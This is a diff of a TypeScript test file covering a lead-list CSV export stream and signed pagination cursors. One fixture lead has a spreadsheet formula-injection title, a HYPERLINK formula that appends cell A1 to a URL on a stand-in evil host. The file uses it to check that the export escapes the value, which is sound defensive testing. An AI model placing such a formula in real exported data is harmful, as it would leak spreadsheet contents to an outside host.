@@ -1,17 +1,16 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { decodeCursor, encodeCursor, INVALID_CURSOR } from '../../src/core/leads/cursor.ts';
-import { LEAD_CSV_COLUMNS, csvCell, csvLine, leadCsvStream, type CsvPage } from '../../src/core/leads/csv.ts';
-import type { Lead } from '../../src/core/model/lead.ts';
+import { LEAD_CSV_COLUMNS, csvCell, csvLine, leadCsvStream, type LeadCsvRecord } from '../../src/core/leads/csv.ts';
 
-const lead = (id: number, fields: Partial<Lead> = {}): Lead =>
-  ({ id, url: `https://site${id}.example/`, hostname: `site${id}.example`, title: `Site ${id}`, status: 'ANALYZED', discovered_at: '2026-01-02T03:04:05.000Z', campaign_id: 7, ...fields }) as Lead;
+const lead = (id: number, fields: Partial<LeadCsvRecord> = {}): LeadCsvRecord =>
+  ({ id, url: `https://site${id}.example/`, title: `Site ${id}`, status: 'ANALYZED', discovered_at: '2026-01-02T03:04:05.000Z', campaign_id: 7, technical_issues: [], ...fields }) as LeadCsvRecord;
 
 async function collect(stream: ReadableStream<Uint8Array>): Promise<string> {
   return new Response(stream).text();
 }
 
-async function* pages(list: CsvPage[], read: number[] = []) {
+async function* pages(list: LeadCsvRecord[][], read: number[] = []) {
   for (const [i, page] of list.entries()) {
     read.push(i);
     yield page;
@@ -49,8 +48,8 @@ describe('leadCsvStream', () => {
     const evil = lead(2, { title: '=HYPERLINK("https://evil.example/?q="&A1,"Click")', company_name: 'Smith, "Best" Plumbing', address: 'Line 1\nLine 2' });
     const stream = await leadCsvStream(
       pages([
-        { leads: [lead(1, { market_opportunity_score: 80 })], issues: new Map([[1, ['No SSL certificate', 'Not mobile friendly']]]) },
-        { leads: [evil], issues: new Map() },
+        [lead(1, { market_opportunity_score: 80, technical_issues: ['No SSL certificate', 'Not mobile friendly'] })],
+        [evil],
       ]),
     );
     const text = await collect(stream);
@@ -66,7 +65,7 @@ describe('leadCsvStream', () => {
 
   it('reads the first page before returning and the rest only as the stream is consumed', async () => {
     const read: number[] = [];
-    const stream = await leadCsvStream(pages([1, 2, 3].map((i) => ({ leads: [lead(i)], issues: new Map() })), read));
+    const stream = await leadCsvStream(pages([1, 2, 3].map((i) => [lead(i)]), read));
     expect(read).toEqual([0]);
     const reader = stream.getReader();
     await reader.read();
@@ -80,12 +79,13 @@ describe('leadCsvStream', () => {
 });
 
 describe('lead list cursors', () => {
-  it('round-trip and are refused for another sort order or when tampered with', () => {
-    const cursor = encodeCursor('industry', [0, 'plumbing', 12]);
+  it('round-trip with the first page\'s total and are refused for another sort order or when tampered with', () => {
+    const cursor = encodeCursor('industry', { key: ['0plumbing', 12], total: 10_000, exact: false });
     expect(cursor).toMatch(/^[A-Za-z0-9_-]+$/);
-    expect(decodeCursor('industry', cursor)).toEqual([0, 'plumbing', 12]);
+    expect(decodeCursor('industry', cursor)).toEqual({ key: ['0plumbing', 12], total: 10_000, exact: false });
     expect(() => decodeCursor('urgency', cursor)).toThrow(INVALID_CURSOR);
     expect(() => decodeCursor('industry', 'not-a-cursor')).toThrow(INVALID_CURSOR);
-    expect(() => decodeCursor('urgency', encodeCursor('urgency', ['80', 1]))).toThrow(INVALID_CURSOR);
+    expect(() => decodeCursor('urgency', encodeCursor('urgency', { key: ['80', 1], total: 1, exact: true }))).toThrow(INVALID_CURSOR);
+    expect(() => decodeCursor('urgency', encodeCursor('urgency', { key: [80, 1], total: -1, exact: true }))).toThrow(INVALID_CURSOR);
   });
 });
